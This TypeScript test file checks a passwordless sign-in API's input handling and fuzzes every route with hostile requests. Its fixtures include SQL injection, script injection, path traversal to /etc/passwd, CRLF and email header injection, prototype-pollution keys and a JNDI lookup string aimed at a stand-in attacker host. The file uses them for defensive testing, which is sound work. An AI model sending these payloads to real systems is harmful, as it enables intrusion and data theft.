import fc from "fast-check";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jsonLimitViolation } from "../../src/security/json-limits.js";
import {
  createBrowser,
  createTestApp,
  linkTokenOf,
  PUBLIC_URL,
  startSignIn,
  type TestApp,
} from "../support/harness.js";
import { outboxMismatches, postJson, rowCount, useAppAndBrowser } from "./support.js";

/** Hostile input: sizes, types, pollution, injection, and fuzzing every route (SECURITY.md 37, 40-42). */

const SEND = "/api/auth/send-passwordless";
const VERIFY_OTP = "/api/auth/verify-otp";
const VERIFY_LINK = "/api/auth/verify-magic-link";

function expectErrorShape(response: LightMyRequestResponse, status: number, code: string) {
  expect(response.statusCode).toBe(status);
  const body = response.json();
  expect(body.code).toBe(code);
  if (code === "validation_error") {
    expect(Array.isArray(body.detail)).toBe(true);
    for (const issue of body.detail) {
      expect(issue).toEqual({ loc: expect.any(Array), msg: expect.any(String), type: expect.any(String) });
    }
  } else {
    expect(typeof body.detail).toBe("string");
  }
}

function rawPost(testApp: TestApp, url: string, payload: string, contentType = "application/json") {
  return testApp.app.inject({
    method: "POST",
    url,
    headers: { ...(contentType ? { "content-type": contentType } : {}), origin: PUBLIC_URL },
    payload,
  });
}

describe("input validation", () => {
  const setup = useAppAndBrowser();

  describe("SECURITY 37: strict schemas and size limits", () => {
    it("SECURITY 37: a body over 16 KiB answers 413 and stores nothing", async () => {
      const payload = JSON.stringify({ email: "alice@example.com", state: "x".repeat(16 * 1024) });
      expectErrorShape(await rawPost(setup.testApp, SEND, payload), 413, "payload_too_large");
      expect(await rowCount(setup.testApp, "auth_requests")).toBe(0);
    });

    it.each([
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/xml",
      "text/json",
      "application/json-patch+json",
      "",
    ])("SECURITY 37: content type %j answers 415", async (contentType) => {
      const response = await rawPost(setup.testApp, SEND, '{"email":"alice@example.com"}', contentType);
      expectErrorShape(response, 415, "unsupported_media_type");
      expect(await rowCount(setup.testApp, "auth_requests")).toBe(0);
    });

    it.each([
      ["truncated", '{"email":"alice@example.com"'],
      ["empty", ""],
      ["single quotes", "{'email':'alice@example.com'}"],
      ["trailing comma", '{"email":"alice@example.com",}'],
      ["NaN", '{"email":"alice@example.com","expires_in":NaN}'],
    ])("SECURITY 37: invalid JSON (%s) answers 400 invalid_json", async (_kind, payload) => {
      expectErrorShape(await rawPost(setup.testApp, SEND, payload), 400, "invalid_json");
    });

    it.each([
      ["deep nesting", `{"email":"alice@example.com","x":${"[".repeat(5000)}${"]".repeat(5000)}}`],
      ["a wide array", JSON.stringify({ email: "alice@example.com", x: new Array(1000).fill(0) })],
      [
        "a wide object",
        JSON.stringify({
          email: "alice@example.com",
          ...Object.fromEntries(new Array(500).fill(0).map((_, index) => [`k${index}`, index])),
        }),
      ],
    ])("SECURITY 37: %s answers 422 before any handler runs", async (_kind, payload) => {
      expectErrorShape(await rawPost(setup.testApp, SEND, payload), 422, "validation_error");
      expect(await rowCount(setup.testApp, "auth_requests")).toBe(0);
    });

    it("SECURITY 37: the JSON limit check is iterative and exact", () => {
      let deep: unknown = 1;
      for (let index = 0; index < 100_000; index++) deep = [deep];
      expect(jsonLimitViolation(deep, { maxDepth: 8, maxItems: 64 })).toMatch(/deeper/);
      expect(jsonLimitViolation({ a: { b: [1, 2] } }, { maxDepth: 3, maxItems: 2 })).toBeUndefined();
      expect(jsonLimitViolation({ a: { b: [[1]] } }, { maxDepth: 3, maxItems: 2 })).toMatch(/deeper/);
      expect(jsonLimitViolation([1, 2, 3], { maxDepth: 3, maxItems: 2 })).toMatch(/items/);
    });

    it("SECURITY 37: unknown fields cannot change state", async () => {
      const response = await setup.browser.post(SEND, {
        email: "alice@example.com",
        passwordless_type: "OTP",
        expires_at: 1,
        attempts: -100,
        consumed_at: 1,
        id: "chosen-id-0000000000",
        auth_request_id: "chosen-id-0000000000",
      });
      expect(response.statusCode).toBe(200);
      expect(response.json().passwordless_type).toBe("LINK_OTP");
      expect(response.json().auth_request_id).not.toBe("chosen-id-0000000000");
      const row = await setup.testApp.database.db
        .selectFrom("auth_requests")
        .select(["attempts", "consumed_at", "passwordless_type"])
        .executeTakeFirstOrThrow();
      expect(row).toEqual({ attempts: 0, consumed_at: null, passwordless_type: "LINK_OTP" });
    });

    it("SECURITY 37: every error is {detail, code}; validation errors use the 422 shape", async () => {
      expectErrorShape(await setup.browser.post(SEND, {}), 422, "validation_error");
      expectErrorShape(
        await setup.browser.post(VERIFY_OTP, { code: "123456", auth_request_id: "unknown-id" }),
        404,
        "challenge_not_found",
      );
      expectErrorShape(await setup.browser.get("/api/auth/nowhere"), 404, "not_found");
    });
  });

  describe("SECURITY 40: pollution and aliases", () => {
    it.each([
      ["__proto__", '{"email":"alice@example.com","__proto__":{"polluted":true}}'],
      [
        "constructor.prototype",
        '{"email":"alice@example.com","constructor":{"prototype":{"polluted":true}}}',
      ],
      ["nested __proto__", '{"email":"alice@example.com","state":{"__proto__":{"polluted":true}}}'],
      ["escaped __proto__", '{"email":"alice@example.com","\\u005f_proto__":{"polluted":true}}'],
    ])("SECURITY 40: a %s key is refused and pollutes nothing", async (_kind, payload) => {
      const response = await rawPost(setup.testApp, SEND, payload);
      expect([400, 422]).toContain(response.statusCode);
      expect(typeof response.json().code).toBe("string");
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype).not.toHaveProperty("polluted");
      expect(await rowCount(setup.testApp, "auth_requests")).toBe(0);
    });

    it("SECURITY 40: a top-level prototype key is dropped", async () => {
      const response = await rawPost(
        setup.testApp,
        SEND,
        '{"email":"alice@example.com","prototype":{"polluted":true}}',
      );
      expect(response.statusCode).toBe(200);
      expect(Object.prototype).not.toHaveProperty("polluted");
    });

    it.each([
      [VERIFY_OTP, { code: "123456", auth_request_id: "aaaaaaaaaa", authRequestId: "bbbbbbbbbb" }],
      [VERIFY_LINK, { link_token: "A".repeat(43), linkToken: "B".repeat(43) }],
      ["/api/auth/resend-passwordless", { auth_request_id: "aaaaaaaaaa", authRequestId: "bbbbbbbbbb" }],
      [SEND, { email: "alice@example.com", expires_in: 120, expiresIn: 600 }],
      [
        SEND,
        {
          email: "alice@example.com",
          magiclink_auth_uri: `${PUBLIC_URL}/a`,
          magiclinkAuthUri: `${PUBLIC_URL}/b`,
        },
      ],
    ])("SECURITY 40: conflicting aliases on %s answer 422", async (url, body) => {
      const response = await setup.browser.post(url, body);
      expectErrorShape(response, 422, "validation_error");
      expect(await rowCount(setup.testApp, "auth_requests")).toBe(0);
    });

    it("SECURITY 40: agreeing aliases are accepted", async () => {
      const { authRequestId, mail } = await startSignIn(setup.testApp, setup.browser, "alice@example.com");
      const response = await setup.browser.post(VERIFY_OTP, {
        code: mail.code,
        auth_request_id: authRequestId,
        authRequestId,
      });
      expect(response.statusCode).toBe(200);
    });

    it("SECURITY 40: query parameters on JSON POST routes are ignored", async () => {
      const { authRequestId, mail } = await startSignIn(setup.testApp, setup.browser, "alice@example.com");
      setup.testApp.clock.advanceSeconds(31);
      const send = await setup.browser.post(`${SEND}?email=mallory@evil.example&expires_in=600`, {
        email: "bob@example.com",
      });
      expect(send.statusCode).toBe(200);
      expect(send.json().expires_in).toBe(300);
      await setup.testApp.mailbox.waitFor("bob@example.com");
      expect(setup.testApp.mailbox.lastFor("mallory@evil.example")).toBeUndefined();
      const fromQuery = await setup.browser.post(
        `${VERIFY_OTP}?code=${mail.code}&auth_request_id=${authRequestId}`,
        {},
      );
      expectErrorShape(fromQuery, 422, "validation_error");
      const linkFromQuery = await createBrowser(setup.testApp).post(
        `${VERIFY_LINK}?link_token=${linkTokenOf(mail)}&confirm=true`,
        {},
      );
      expectErrorShape(linkFromQuery, 422, "validation_error");
    });

    it("SECURITY 40: duplicate JSON keys take the last value, as JSON.parse does", async () => {
      const response = await rawPost(
        setup.testApp,
        SEND,
        '{"email":"mallory@evil.example","email":"alice@example.com"}',
      );
      expect(response.statusCode).toBe(200);
      const row = await setup.testApp.database.db
        .selectFrom("auth_requests")
        .select("email")
        .executeTakeFirstOrThrow();
      expect(row.email).toBe("alice@example.com");
    });
  });

  describe("SECURITY 41: strict types, no coercion", () => {
    it.each([
      ["a number", 123456],
      ["five digits", "12345"],
      ["seven digits", "1234567"],
      ["fullwidth digits", "\uff11\uff12\uff13\uff14\uff15\uff16"],
      ["Arabic-Indic digits", "\u0661\u0662\u0663\u0664\u0665\u0666"],
      ["padded", " 123456"],
      ["trailing newline", "123456\n"],
      ["SQL", "1' OR '1'='1"],
      ["an array", ["123456"]],
      ["exponent", "1e5"],
    ])("SECURITY 41: a code that is %s answers 422 and costs no attempt", async (_kind, code) => {
      const { authRequestId } = await startSignIn(setup.testApp, setup.browser, "alice@example.com");
      const response = await setup.browser.post(VERIFY_OTP, { code, auth_request_id: authRequestId });
      expectErrorShape(response, 422, "validation_error");
      const row = await setup.testApp.database.db
        .selectFrom("auth_requests")
        .select("attempts")
        .executeTakeFirstOrThrow();
      expect(row.attempts).toBe(0);
    });

    it.each([
      ["SQL in the request id", VERIFY_OTP, { code: "123456", auth_request_id: "' OR '1'='1" }],
      ["a numeric request id", VERIFY_OTP, { code: "123456", auth_request_id: 12345678 }],
      ["a short link token", VERIFY_LINK, { link_token: "abc" }],
      ["a link token with dots", VERIFY_LINK, { link_token: `../../${"a".repeat(40)}` }],
      ["a link token with SQL", VERIFY_LINK, { link_token: `${"a".repeat(30)}' OR 1=1 --` }],
      ["confirm as a string", VERIFY_LINK, { link_token: "A".repeat(43), confirm: "true" }],
      ["expires_in as a string", SEND, { email: "alice@example.com", expires_in: "300" }],
      ["template in lower case", SEND, { email: "alice@example.com", template: "signin" }],
      ["state as an object", SEND, { email: "alice@example.com", state: { a: 1 } }],
    ])("SECURITY 41: %s answers 422", async (_kind, url, body) => {
      expectErrorShape(await setup.browser.post(url, body), 422, "validation_error");
    });

    it("SECURITY 37: a malformed URL or an over-long parameter answers a coded 404 with the usual headers", async () => {
      for (const url of ["/api/auth/auth-requests/%E0%A4%A", `/api/auth/auth-requests/${"a".repeat(500)}`]) {
        const response = await setup.browser.get(url);
        expectErrorShape(response, 404, "not_found");
        expect(response.headers["x-content-type-options"]).toBe("nosniff");
        expect(String(response.headers["content-security-policy"])).toContain("frame-ancestors 'none'");
        expect(response.headers["cache-control"]).toBe("no-store");
      }
    });

    it("SECURITY 41: a malformed request id in the status URL answers 422", async () => {
      for (const id of ["%27%20OR%201%3D1", "a", "x".repeat(300)]) {
        const response = await setup.browser.get(`/api/auth/auth-requests/${id}`);
        expect(response.statusCode).toBeGreaterThanOrEqual(400);
        expect(response.statusCode).toBeLessThan(500);
        expect(typeof response.json().code).toBe("string");
      }
    });
  });

  describe("SECURITY 42: reflected data is encoded", () => {
    it("SECURITY 42: state and redirect parameters with markup never reach the email HTML raw", async () => {
      const { mail } = await startSignIn(setup.testApp, setup.browser, "alice@example.com", {
        state: '<script>alert("state")</script>',
        magiclink_auth_uri: `${PUBLIC_URL}/verify-magic-link?next="><script>alert(1)</script>`,
      });
      expect(mail.html).not.toMatch(/<script/i);
      expect(mail.html).not.toContain('"><script');
      // The sign-in link (button and fallback address) and the site's own address, nothing else.
      const hrefs = new Set([...mail.html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]));
      hrefs.delete(new URL(PUBLIC_URL).origin);
      expect(hrefs.size).toBe(1);
      expect([...hrefs][0]).toContain("link_token=");
      expect(mail.subject).not.toMatch(/[<>]/);
    });

    it("SECURITY 42: state comes back as JSON data, not markup", async () => {
      const state = '<img src=x onerror=alert(1)>"\u2028';
      const { authRequestId, mail } = await startSignIn(setup.testApp, setup.browser, "alice@example.com", {
        state,
      });
      const response = await setup.browser.post(VERIFY_OTP, {
        code: mail.code,
        auth_request_id: authRequestId,
      });
      expect(response.headers["content-type"]).toMatch(/^application\/json/);
      expect(response.json().state).toBe(state);
    });
  });
});

/**
 * The routes an attacker can reach, read from the app itself so a new route is fuzzed the
 * day it is added.
 */
function routesOf(testApp: TestApp): { url: string; methods: string[] }[] {
  const routes: { url: string; methods: string[] }[] = [];
  const stack: string[] = [];
  for (const line of testApp.app.printRoutes({ commonPrefix: false }).split("\n")) {
    const match = /^([│ ]*)[├└]── (.*?)(?: \(([A-Z, ]+)\))?$/.exec(line);
    if (!match) continue;
    const depth = (match[1] ?? "").length / 4;
    stack.length = depth;
    stack.push(match[2] ?? "");
    if (match[3]) routes.push({ url: stack.join(""), methods: match[3].split(", ") });
  }
  return routes;
}

const HOSTILE_STRINGS = [
  "",
  " ",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  "\r\nSet-Cookie: a=b",
  "\u202e",
  "\ud800",
  "a".repeat(300),
  "alice@example.com",
  "Alice@Example.COM\r\nBcc: x@evil.example",
  "javascript:alert(1)",
  "http://localhost:8000@evil.example",
  "123456",
  "A".repeat(43),
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  "{{7*7}}",
];

const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "APPLICATION/JSON",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/xml",
  "application/json; charset=utf-16",
  "*/*",
  "",
];

const FIELD_NAMES = [
  "email",
  "code",
  "auth_request_id",
  "authRequestId",
  "link_token",
  "linkToken",
  "confirm",
  "token_delivery",
  "template",
  "state",
  "expires_in",
  "expiresIn",
  "magiclink_auth_uri",
  "refresh_token",
  "keep_current",
  "prototype",
];

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 64 }),
  fc.string({ unit: "binary", maxLength: 32 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.constantFrom(...HOSTILE_STRINGS), { maxLength: 4 }),
  fc.dictionary(fc.constantFrom(...FIELD_NAMES), fc.constantFrom(...HOSTILE_STRINGS), { maxKeys: 3 }),
);

const hostileBody: fc.Arbitrary<string | undefined> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .dictionary(fc.constantFrom(...FIELD_NAMES), hostileValue, { maxKeys: 6 })
      .map((value) => JSON.stringify(value)),
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '{"__proto__":{"x":1}}',
      '{"constructor":{"prototype":{"x":1}}}',
      "{",
      "[",
      '"',
      "\u0000",
      `{"state":"${"x".repeat(17_000)}"}`,
      `${"[".repeat(3000)}${"]".repeat(3000)}`,
    ),
  },
  { weight: 1, arbitrary: fc.constant(undefined) },
);

const safeHeaderValue = fc.oneof(
  fc.constantFrom(
    "https://evil.example",
    "null",
    "cross-site",
    "same-origin",
    "Bearer abc.def.ghi",
    "Bearer ",
    "1.2.3.4, 5.6.7.8",
    "https",
  ),
  fc.stringMatching(/^[\x20-\x7e]{0,80}$/),
);

const hostileHeaders = fc.record(
  {
    origin: fc.oneof(fc.constant(PUBLIC_URL), safeHeaderValue),
    cookie: fc.oneof(
      fc.constantFrom(
        "access_token=abc",
        `lk_binding=${"A".repeat(43)}`,
        "refresh_token=x; access_token=eyJhbGciOiJub25lIn0.e30.",
        "__proto__=1",
      ),
      fc.stringMatching(/^[\x21-\x7e]{0,80}$/),
    ),
    authorization: safeHeaderValue,
    "x-forwarded-for": safeHeaderValue,
    "x-forwarded-proto": safeHeaderValue,
    "x-forwarded-host": safeHeaderValue,
    "sec-fetch-site": safeHeaderValue,
    accept: fc.constantFrom("text/html", "application/json", "*/*"),
  },
  { requiredKeys: [] },
);

function expectWellFormedAnswer(response: LightMyRequestResponse, context: string) {
  expect(response.statusCode, context).toBeLessThan(500);
  if (response.statusCode < 400) return;
  expect(response.headers["content-type"], context).toMatch(/^application\/json/);
  const body = response.json();
  expect(typeof body.code, context).toBe("string");
  expect(body.code, context).toMatch(/^[a-z_]+$/);
  expect(JSON.stringify(body), context).not.toMatch(/at .*\.(ts|js):\d+|stack|SQLITE|syntax error at/i);
}

describe("fuzzing", () => {
  let testApp: TestApp;
  let routes: { url: string; methods: string[] }[];
  let seeds: { authRequestId: string; code: string; linkToken: string }[];

  beforeAll(async () => {
    testApp = await createTestApp({ env: { RATE_LIMITS: "off" } });
    routes = routesOf(testApp);
    seeds = [];
    for (const email of ["fuzz1@example.com", "fuzz2@example.com"]) {
      const { authRequestId, mail } = await startSignIn(testApp, createBrowser(testApp), email);
      seeds.push({ authRequestId, code: mail.code ?? "", linkToken: linkTokenOf(mail) });
    }
  });
  afterAll(async () => testApp.close());

  it("SECURITY 37: the route list covers every API route", () => {
    const urls = routes.map((route) => route.url);
    for (const url of [
      "/api/auth/send-passwordless",
      "/api/auth/verify-otp",
      "/api/auth/verify-magic-link",
      "/api/auth/approve-magic-link",
      "/api/auth/complete-approval",
      "/api/auth/resend-passwordless",
      "/api/auth/auth-requests/:auth_request_id",
      "/api/auth/refresh",
      "/api/auth/logout",
      "/api/auth/sessions/:id",
    ]) {
      expect(urls).toContain(url);
    }
  });

  it("SECURITY 37: random and hostile requests to every route never get a 5xx and always a coded JSON error", async () => {
    const methods = fc.constantFrom("GET", "POST", "DELETE", "PUT", "PATCH", "HEAD", "OPTIONS");
    await fc.assert(
      fc.asyncProperty(
        fc.nat(),
        fc.boolean(),
        methods,
        fc.constantFrom(
          ...HOSTILE_STRINGS.filter((value) => !/[\ud800-\udfff]/.test(value)).map((value) =>
            encodeURIComponent(value),
          ),
          // Raw, not encoded: malformed percent-encoding and an over-long parameter.
          "%E0%A4%A",
          "%",
          "%zz",
          "%00",
          "b".repeat(500),
        ),
        fc.constantFrom(...CONTENT_TYPES),
        hostileHeaders,
        hostileBody,
        fc.option(
          fc.dictionary(fc.constantFrom(...FIELD_NAMES), fc.constantFrom(...HOSTILE_STRINGS), { maxKeys: 3 }),
        ),
        async (routeIndex, useRouteMethod, otherMethod, pathValue, contentType, headers, payload, query) => {
          const route = routes[routeIndex % routes.length]!;
          const method = useRouteMethod ? route.methods[routeIndex % route.methods.length]! : otherMethod;
          // A bare "*" route (the web UI's fallback) with an empty value would give an empty URL.
          const path = route.url.replace(/:[a-z_]+/g, pathValue || "x").replace("*", pathValue) || "/";
          const search = query ? `?${new URLSearchParams(query as Record<string, string>).toString()}` : "";
          const hasBody = payload !== undefined && !["GET", "HEAD"].includes(method);
          const response = await testApp.app.inject({
            method: method as "GET",
            url: `${path}${search}`,
            headers: { ...headers, ...(hasBody && contentType ? { "content-type": contentType } : {}) },
            ...(hasBody ? { payload } : {}),
          });
          if (method === "HEAD" || method === "OPTIONS") {
            expect(response.statusCode).toBeLessThan(500);
            return;
          }
          expectWellFormedAnswer(response, `${method} ${path}${search} ${String(payload).slice(0, 200)}`);
        },
      ),
      { numRuns: 400, seed: Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31) },
    );
  }, 60_000);

  it("SECURITY 37: near-valid sign-in bodies with one hostile field never get a 5xx", async () => {
    const bodies = fc.oneof(
      fc.record({
        url: fc.constant(SEND),
        body: fc.record(
          {
            email: fc.constantFrom("a@example.com", "b@example.com", "c@example.com"),
            template: fc.oneof(fc.constantFrom("SIGNIN", "SIGNUP"), hostileValue),
            state: fc.oneof(fc.string({ maxLength: 100 }), hostileValue),
            expires_in: fc.oneof(fc.integer({ min: 60, max: 600 }), hostileValue),
            magiclink_auth_uri: fc.oneof(fc.constant(`${PUBLIC_URL}/verify-magic-link`), hostileValue),
          },
          { requiredKeys: ["email"] },
        ),
      }),
      fc.record({
        url: fc.constant(VERIFY_OTP),
        body: fc.record({
          seed: fc.nat(1),
          code: fc.oneof(fc.stringMatching(/^[0-9]{6}$/), hostileValue),
          token_delivery: fc.oneof(fc.constantFrom("cookie", "body"), hostileValue),
        }),
      }),
      fc.record({
        url: fc.constant(VERIFY_LINK),
        body: fc.record({
          seed: fc.nat(1),
          confirm: fc.oneof(fc.boolean(), hostileValue),
          auth_request_id: hostileValue,
        }),
      }),
      fc.record({
        url: fc.constantFrom("/api/auth/resend-passwordless", "/api/auth/complete-approval"),
        body: fc.record({ seed: fc.nat(1), token_delivery: hostileValue }),
      }),
      fc.record({
        url: fc.constant("/api/auth/approve-magic-link"),
        body: fc.record({ seed: fc.nat(1), link_token: fc.oneof(fc.constant("seed"), hostileValue) }),
      }),
    );
    await fc.assert(
      fc.asyncProperty(bodies, fc.boolean(), async ({ url, body }, withBinding) => {
        const { seed, ...rest } = body as { seed?: number } & Record<string, unknown>;
        const known = seeds[seed ?? 0]!;
        const filled: Record<string, unknown> = { ...rest };
        if (seed !== undefined) {
          filled.auth_request_id ??= known.authRequestId;
          if (url === VERIFY_LINK || filled.link_token === "seed") filled.link_token = known.linkToken;
        }
        const response = await postJson(testApp, url, filled, {
          origin: PUBLIC_URL,
          ...(withBinding ? { cookie: `lk_binding=${"A".repeat(43)}` } : {}),
        });
        expectWellFormedAnswer(response, `${url} ${JSON.stringify(filled).slice(0, 300)}`);
      }),
      { numRuns: 300, seed: Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31) },
    );
  }, 60_000);

  it("SECURITY 47: after the fuzzing every challenge has exactly one mail per send, and no mail is orphaned", async () => {
    expect(await rowCount(testApp, "auth_requests")).toBeGreaterThan(2);
    expect(await outboxMismatches(testApp)).toEqual([]);
  });
});
